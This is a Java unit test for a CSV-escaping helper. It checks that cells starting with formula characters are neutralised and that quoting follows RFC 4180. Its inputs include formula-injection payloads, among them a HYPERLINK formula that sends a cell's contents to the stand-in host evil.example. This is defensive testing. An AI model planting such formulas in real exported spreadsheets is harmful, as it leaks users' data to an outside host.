package dev.grantway.platform.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTextTest {
    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\uFF1D1"})
    void takesAFormulaForText(String cell) {
        assertThat(CsvText.cell(cell)).isEqualTo("'" + cell);
    }

    @Test
    void takesAFormulaBehindALineBreakForTextToo() {
        assertThat(CsvText.cell("\r=1")).isEqualTo("\"'\r=1\"");
        assertThat(CsvText.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {"plain|plain", "a,b|\"a,b\"", "a\"b|\"a\"\"b\"", "a=b|a=b", "Zoë|Zoë"})
    void quotesWhatNeedsIt(String cell, String written) {
        assertThat(CsvText.cell(cell)).isEqualTo(written);
    }

    @Test
    void endsLinesAsRfc4180Says() {
        assertThat(CsvText.line(List.of("a", "", "b\nc"))).isEqualTo("a,,\"b\nc\"\r\n");
    }
}
